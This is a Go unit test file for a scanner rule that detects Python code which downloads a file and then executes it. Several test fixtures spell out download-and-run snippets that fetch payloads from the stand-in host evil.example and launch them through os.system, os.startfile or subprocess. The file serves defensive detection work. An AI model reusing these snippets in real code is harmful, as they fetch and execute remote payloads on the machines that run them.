package detectors

import (
	"testing"

	"github.com/nightjar-sec/nightjar/internal/types"
)

func TestDownloadExecUrlretrieveThenSystem(t *testing.T) {
	src := "import urllib.request\nimport os\n" +
		"urllib.request.urlretrieve(\"http://evil.example/p.bin\", \"/tmp/p.bin\")\n" +
		"os.system(\"/tmp/p.bin\")\n"
	fs := evalPy(t, DownloadExec, src)
	if len(fs) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(fs))
	}
	if fs[0].Severity != types.SevHigh || fs[0].Confidence != 0.95 {
		t.Fatalf("unexpected finding: %+v", fs[0])
	}
}

func TestDownloadExecExecuteBeforeWriteIgnored(t *testing.T) {
	src := "import urllib.request\nimport os\n" +
		"os.system(\"/tmp/p.bin\")\n" +
		"urllib.request.urlretrieve(\"http://evil.example/p.bin\", \"/tmp/p.bin\")\n"
	if fs := evalPy(t, DownloadExec, src); len(fs) != 0 {
		t.Fatalf("launch before write must not match, got %+v", fs)
	}
}

func TestDownloadExecFileWriteThenStartfile(t *testing.T) {
	src := "import requests\nimport os\n" +
		"r = requests.get(\"http://evil.example/payload.exe\")\n" +
		"f = open(\"/tmp/payload.exe\", \"wb\")\n" +
		"f.write(r.content)\n" +
		"f.close()\n" +
		"os.startfile(\"/tmp/payload.exe\")\n"
	fs := evalPy(t, DownloadExec, src)
	if len(fs) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(fs))
	}
}

func TestDownloadExecWithOpenAlias(t *testing.T) {
	src := "import requests\nimport subprocess\n" +
		"r = requests.get(\"http://evil.example/run.sh\")\n" +
		"with open(\"/tmp/run.sh\", \"w\") as f:\n" +
		"    f.write(r.text)\n" +
		"subprocess.call([\"sh\", \"/tmp/run.sh\"])\n"
	fs := evalPy(t, DownloadExec, src)
	if len(fs) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(fs))
	}
}

func TestDownloadExecReadModeOpenIgnored(t *testing.T) {
	src := "import requests\nimport os\n" +
		"r = requests.get(\"http://example.com/data\")\n" +
		"f = open(\"/tmp/data\")\n" +
		"f.write(r.content)\n" +
		"os.system(\"/tmp/data\")\n"
	if fs := evalPy(t, DownloadExec, src); len(fs) != 0 {
		t.Fatalf("read-mode open must not record a write, got %+v", fs)
	}
}

func TestDownloadExecLocalWriteIgnored(t *testing.T) {
	src := "import os\n" +
		"f = open(\"/tmp/notes.txt\", \"w\")\n" +
		"f.write(\"hello\")\n" +
		"os.system(\"/tmp/notes.txt\")\n"
	if fs := evalPy(t, DownloadExec, src); len(fs) != 0 {
		t.Fatalf("non-network data must not match, got %+v", fs)
	}
}
